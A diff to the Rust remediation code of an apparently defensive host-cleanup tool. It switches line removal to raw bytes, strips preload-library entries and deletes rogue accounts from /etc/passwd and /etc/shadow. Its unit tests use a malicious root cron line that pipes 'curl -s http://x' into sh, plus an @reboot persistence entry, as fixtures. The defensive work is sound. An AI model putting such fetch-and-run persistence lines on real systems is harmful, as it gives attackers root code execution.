@@ -4,8 +4,8 @@
 //!
 //! What to do for each check is one table ([`remedy_for`]); adding a remedy touches only it.
 
-use crate::engine::Plan;
-use crate::target::Target;
+use crate::engine::{LineEdit, Plan};
+use crate::target::{EDIT_LIMIT, Target};
 use crate::{Error, Result, step};
 use firewarden_model::action::{Risk, Step};
 use firewarden_model::{Finding, printable};
@@ -53,11 +53,13 @@ pub fn remedy_for(check: &str) -> Option<Remedy> {
 }
 
 /// Finds the line a finding names: the recorded line number when it still says the same,
-/// else the one line that does (the file may have shifted since triage).
-fn locate_line(text: &str, line: Option<u64>, excerpt: &str) -> Option<usize> {
-    let lines: Vec<&str> = text.split_inclusive('\n').collect();
-    let same = |l: &str| {
-        let p = printable(l.trim_end_matches(['\n', '\r']), 300);
+/// else the one line that does (the file may have shifted since triage). Lines are compared
+/// as triage printed them.
+fn locate_line(bytes: &[u8], line: Option<u64>, excerpt: &str) -> Option<usize> {
+    let lines: Vec<&[u8]> = bytes.split_inclusive(|b| *b == b'\n').collect();
+    let same = |l: &[u8]| {
+        let text = String::from_utf8_lossy(l);
+        let p = printable(text.trim_end_matches(['\n', '\r']), 300);
         p == excerpt || (excerpt.ends_with('…') && p.starts_with(excerpt.trim_end_matches('…')))
     };
     if let Some(n) = line
@@ -70,11 +72,13 @@ fn locate_line(text: &str, line: Option<u64>, excerpt: &str) -> Option<usize> {
     (hits.len() == 1).then(|| hits[0])
 }
 
-fn without_line(text: &str, index: usize) -> String {
-    text.split_inclusive('\n')
+/// The bytes without line `index` (0-based) and its line ending; every other byte unchanged.
+fn without_line(bytes: &[u8], index: usize) -> Vec<u8> {
+    bytes
+        .split_inclusive(|b| *b == b'\n')
         .enumerate()
         .filter(|(i, _)| *i != index)
-        .map(|(_, l)| l)
+        .flat_map(|(_, l)| l.iter().copied())
         .collect()
 }
 
@@ -110,16 +114,14 @@ pub fn plan(target: &Target, finding: &Finding) -> Result<Plan> {
         }
         Remedy::RemoveLine => {
             let excerpt = ev.excerpt.clone().unwrap_or_default();
-            let text = target
-                .text(&path)
-                .ok_or_else(|| Error::Refused(format!("{path}: cannot read it")))?;
-            let i = locate_line(&text, ev.line, &excerpt).ok_or_else(|| {
+            let (_, bytes) = target.read_file(&path, EDIT_LIMIT)?;
+            let i = locate_line(&bytes, ev.line, &excerpt).ok_or_else(|| {
                 Error::Drift(format!(
                     "{path}: line {} no longer says `{excerpt}` (changed since triage); run triage again",
                     ev.line.unwrap_or(0)
                 ))
             })?;
-            plan.edit(target, &path, without_line(&text, i).into_bytes())?;
+            plan.edit(target, &path, without_line(&bytes, i))?;
         }
         Remedy::Quarantine => {
             plan.quarantine(target, &path)?;
@@ -127,27 +129,24 @@ pub fn plan(target: &Target, finding: &Finding) -> Result<Plan> {
         Remedy::SystemdUnit => systemd_unit(target, &path, &mut plan)?,
         Remedy::PreloadEntry => {
             let lib = ev.excerpt.clone().unwrap_or_default();
-            let text = target
-                .text(&path)
-                .ok_or_else(|| Error::Refused(format!("{path}: cannot read it")))?;
-            let new: String = text
-                .split_inclusive('\n')
-                .filter_map(|l| {
-                    let words: Vec<&str> = l
-                        .split([' ', '\t', ':', '\n'])
-                        .filter(|w| !w.is_empty())
-                        .collect();
-                    if !words.contains(&lib.as_str()) {
-                        return Some(l.to_string());
-                    }
-                    let rest: Vec<&str> = words.into_iter().filter(|w| *w != lib).collect();
-                    (!rest.is_empty()).then(|| format!("{}\n", rest.join(" ")))
-                })
-                .collect();
-            if new == text {
+            let changed = plan.edit_lines(target, &path, |l| {
+                let words: Vec<&str> = l
+                    .split([' ', '\t', ':'])
+                    .filter(|w| !w.is_empty())
+                    .collect();
+                if l.trim_start().starts_with('#') || !words.contains(&lib.as_str()) {
+                    return LineEdit::Keep;
+                }
+                let rest: Vec<&str> = words.into_iter().filter(|w| *w != lib).collect();
+                if rest.is_empty() {
+                    LineEdit::Delete
+                } else {
+                    LineEdit::Replace(rest.join(" "))
+                }
+            })?;
+            if changed == 0 {
                 return Err(Error::Drift(format!("{path} no longer loads {lib}")));
             }
-            plan.edit(target, &path, new.into_bytes())?;
             if lib.starts_with('/') && target.exists(&lib) {
                 plan.quarantine(target, &lib)?;
             }
@@ -165,14 +164,15 @@ pub fn plan(target: &Target, finding: &Finding) -> Result<Plan> {
                 })?
                 .to_string();
             for file in ["/etc/passwd", "/etc/shadow"] {
-                let Some(text) = target.text(file) else {
-                    continue;
-                };
-                let new: String = text
-                    .split_inclusive('\n')
-                    .filter(|l| l.split(':').next() != Some(name.as_str()))
-                    .collect();
-                plan.edit(target, file, new.into_bytes())?;
+                if target.exists(file) {
+                    plan.edit_lines(target, file, |l| {
+                        if l.split(':').next() == Some(name.as_str()) {
+                            LineEdit::Delete
+                        } else {
+                            LineEdit::Keep
+                        }
+                    })?;
+                }
             }
             if plan.is_empty() {
                 return Err(Error::Drift(format!("account `{name}` is gone already")));
@@ -279,29 +279,29 @@ mod tests {
 
     #[test]
     fn locates_lines_that_moved() {
-        let text = "# m h dom\n*/5 * * * * root curl -s http://x | sh\n@reboot root /tmp/.x\n";
+        let text = b"# m h dom\n*/5 * * * * root curl -s http://x | sh\n@reboot root /tmp/.x\n";
         assert_eq!(
             locate_line(text, Some(2), "*/5 * * * * root curl -s http://x | sh"),
             Some(1)
         );
         // The first line was removed since triage: the line moved up.
-        let moved = "*/5 * * * * root curl -s http://x | sh\n@reboot root /tmp/.x\n";
+        let moved = b"*/5 * * * * root curl -s http://x | sh\n@reboot root /tmp/.x\n";
         assert_eq!(
             locate_line(moved, Some(2), "*/5 * * * * root curl -s http://x | sh"),
             Some(0)
         );
         assert_eq!(locate_line(moved, Some(2), "not there"), None);
         // Two identical lines: ambiguous unless the recorded line number matches.
-        let twice = "a\na\n";
+        let twice = b"a\na\n";
         assert_eq!(locate_line(twice, None, "a"), None);
         assert_eq!(locate_line(twice, Some(2), "a"), Some(1));
     }
 
     #[test]
     fn removes_exactly_one_line_keeping_the_rest_byte_for_byte() {
-        let text = "one\r\ntwo\nthree";
-        assert_eq!(without_line(text, 1), "one\r\nthree");
-        assert_eq!(without_line(text, 2), "one\r\ntwo\n");
+        let text = b"one\r\ntw\xffo\nthree";
+        assert_eq!(without_line(text, 1), b"one\r\nthree");
+        assert_eq!(without_line(text, 2), b"one\r\ntw\xffo\n");
     }
 
     #[test]
